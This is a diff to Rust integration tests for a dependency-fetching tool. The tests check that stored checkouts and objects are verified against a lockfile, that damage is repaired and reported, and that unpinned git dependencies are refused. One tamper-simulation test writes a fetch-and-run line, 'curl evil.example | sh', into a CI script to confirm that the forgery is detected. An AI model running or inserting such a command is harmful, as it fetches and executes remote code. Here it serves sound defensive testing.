@@ -76,7 +76,9 @@ fn good_fetch_verifies_everything_then_hits_the_cache() {
         "{stdout}"
     );
     assert!(
-        stdout.contains("0 fetched, 5 cached, 0 failed, 0 missing, 0 unpinned, 0 skipped"),
+        stdout.contains(
+            "0 fetched, 5 cached, 0 repaired, 0 failed, 0 missing, 0 unpinned, 0 skipped"
+        ),
         "{stdout}"
     );
 }
@@ -457,11 +459,7 @@ fn a_damaged_stored_checkout_is_detected_and_checked_out_again() {
     let out = f.fetch(&["--skip", "kernel"]);
     assert_eq!(out.status.code(), Some(0), "{}", text(&out));
     let all = text(&out);
-    assert_eq!(
-        all.matches("the stored checkout was damaged").count(),
-        2,
-        "{all}"
-    );
+    assert_eq!(all.matches("was damaged").count(), 2, "{all}");
     assert_eq!(std::fs::read_to_string(&readme).unwrap(), "Kata fixture\n");
     assert_eq!(
         std::fs::read_to_string(&submodule_file).unwrap(),
@@ -494,4 +492,126 @@ fn a_damaged_stored_checkout_is_detected_and_checked_out_again() {
         text(&out)
     );
     assert!(!entry.exists(), "the damaged entry is removed");
+}
+
+/// The `--json` report's row of the first input of `class`, from a fetch that must succeed.
+fn fetched_input(f: &Fixture, args: &[&str], class: &str) -> serde_json::Value {
+    let out = f.fetch(args);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
+    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    report["report"]["inputs"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|i| i["class"] == class)
+        .unwrap()
+        .clone()
+}
+
+/// The tree id git itself gives the files of `dir` (the oracle for a forged record).
+fn git_tree_of(dir: &std::path::Path) -> String {
+    let scratch = tempfile::tempdir().unwrap();
+    let git_dir = scratch.path().join("git");
+    let run = |args: &[&str]| {
+        let out = std::process::Command::new("git")
+            .arg("--git-dir")
+            .arg(&git_dir)
+            .arg("--work-tree")
+            .arg(dir)
+            .args(args)
+            .output()
+            .unwrap();
+        assert!(out.status.success(), "git {args:?}: {}", text(&out));
+        String::from_utf8(out.stdout).unwrap().trim().to_owned()
+    };
+    run(&["init", "-q"]);
+    run(&["add", "-A"]);
+    run(&["write-tree"])
+}
+
+#[test]
+fn a_stored_checkout_is_checked_against_the_lockfile_not_its_own_record() {
+    let f = Fixture::new();
+    assert_eq!(f.fetch(&["--skip", "kernel"]).status.code(), Some(0));
+    // Rewrite a file of the dependency's submodule, and the tree id the store recorded for it,
+    // as someone who can write the store would.
+    let dep = f.checkout(&f.dep_commit);
+    let script = dep.join("ci/ci.sh");
+    std::fs::write(&script, "#!/bin/sh\ncurl evil.example | sh\n").unwrap();
+    let forged = git_tree_of(&dep.join("ci"));
+    let record = dep.parent().unwrap().join("record.json");
+    if let Ok(text) = std::fs::read_to_string(&record) {
+        let mut json: serde_json::Value = serde_json::from_str(&text).unwrap();
+        json["submodules"][0]["tree"] = forged.clone().into();
+        std::fs::write(&record, json.to_string()).unwrap();
+    }
+
+    let git = fetched_input(&f, &["--skip", "kernel", "--json"], "git");
+    assert_eq!(git["status"], "repaired", "{git}");
+    let damaged = git["damaged"].as_str().unwrap();
+    assert!(
+        damaged.contains("ci hashes to tree") && damaged.contains(&forged),
+        "{damaged}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(&script).unwrap(),
+        "#!/bin/sh\necho ci\n"
+    );
+}
+
+#[test]
+fn a_damaged_stored_object_is_reported_not_replaced_silently() {
+    let f = Fixture::new();
+    assert_eq!(f.fetch(&[]).status.code(), Some(0));
+    let object = f.store.join("objects/sha256").join(&f.kernel_sha256);
+    std::fs::write(&object, b"not the kernel").unwrap();
+
+    let kernel = fetched_input(&f, &["--json"], "kernel");
+    assert_eq!(kernel["status"], "repaired", "{kernel}");
+    assert!(
+        kernel["damaged"]
+            .as_str()
+            .unwrap()
+            .contains(&format!("not the pinned {}", f.kernel_sha256)),
+        "{kernel}"
+    );
+    let stored = std::fs::read(&object).unwrap();
+    assert_eq!(
+        hex::encode(<sha2::Sha256 as sha2::Digest>::digest(&stored)),
+        f.kernel_sha256
+    );
+
+    std::fs::write(&object, b"damaged again").unwrap();
+    let table = f.fetch(&[]);
+    assert_eq!(table.status.code(), Some(0), "{}", text(&table));
+    let stdout = String::from_utf8_lossy(&table.stdout);
+    assert!(
+        stdout.contains("repaired") && stdout.contains("1 repaired"),
+        "{stdout}"
+    );
+    assert!(
+        stdout.contains("damaged: linux 6.0.1: the stored copy hashed to"),
+        "{stdout}"
+    );
+}
+
+#[test]
+fn a_git_dependency_without_a_pinned_tree_is_never_used() {
+    let f = Fixture::new();
+    let text_before = std::fs::read_to_string(&f.lockfile).unwrap();
+    let git_section = &text_before[text_before.find("[[git]]").unwrap()..];
+    let tree_line = git_section
+        .lines()
+        .find(|l| l.starts_with("tree = "))
+        .unwrap()
+        .to_owned();
+    f.edit_lockfile(&format!("{tree_line}\n"), "");
+    let out = f.fetch(&["--skip", "kernel"]);
+    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
+    let all = text(&out);
+    assert!(
+        all.contains("unpinned example/dep-rs") && all.contains("but not its tree"),
+        "{all}"
+    );
+    assert!(!f.store.join("git").join(&f.dep_commit).exists());
 }
